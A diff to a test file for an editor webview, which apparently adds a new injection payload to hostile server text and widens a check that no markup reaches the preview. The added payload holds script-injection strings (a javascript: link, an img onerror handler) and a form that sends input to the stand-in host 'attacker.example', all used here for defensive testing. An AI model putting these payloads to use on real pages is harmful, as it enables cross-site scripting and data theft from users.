@@ -177,7 +177,7 @@ function hostileModel(base: FormModel, text: string): FormModel {
     })),
     values: Object.fromEntries(
       base.fields.map((field) => {
-        if (field.valueType === 'TEXT' || field.valueType === 'MARKDOWN') return [field.key, `${text}\n\n[link](javascript:__canary()) <img src=x onerror=__canary()>`];
+        if (field.valueType === 'TEXT' || field.valueType === 'MARKDOWN') return [field.key, `${text}\n\n[link](javascript:__canary()) <img src=x onerror=__canary()>\n\n<form action="https://attacker.example"><input name="q"><button>Send</button></form><style>main{display:none}</style>`];
         return [field.key, base.values[field.key]];
       }),
     ),
@@ -194,7 +194,9 @@ describe('the editor webview with hostile server text', () => {
       await page.locator('.preview-toggle').first().click();
       await page.locator('.markdown-preview a').first().click({ timeout: 2000 }).catch(() => undefined);
       await page.locator('button.open-link').click();
-      const injected = await page.evaluate(() => document.querySelectorAll('main script, main iframe, main svg, main [onerror], main [onload], main a[href^="javascript:"]').length);
+      const injected = await page.evaluate(
+        () => document.querySelectorAll('main script, main iframe, main svg, main [onerror], main [onload], main a[href^="javascript:"], .markdown-preview :is(form, input, button, style)').length,
+      );
       assert.equal(injected, 0, `markup injected by ${text.slice(0, 40)}`);
       const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
       // Shadow roots included: the UI library renders its inner parts there. A string: no compiled helpers in the page.
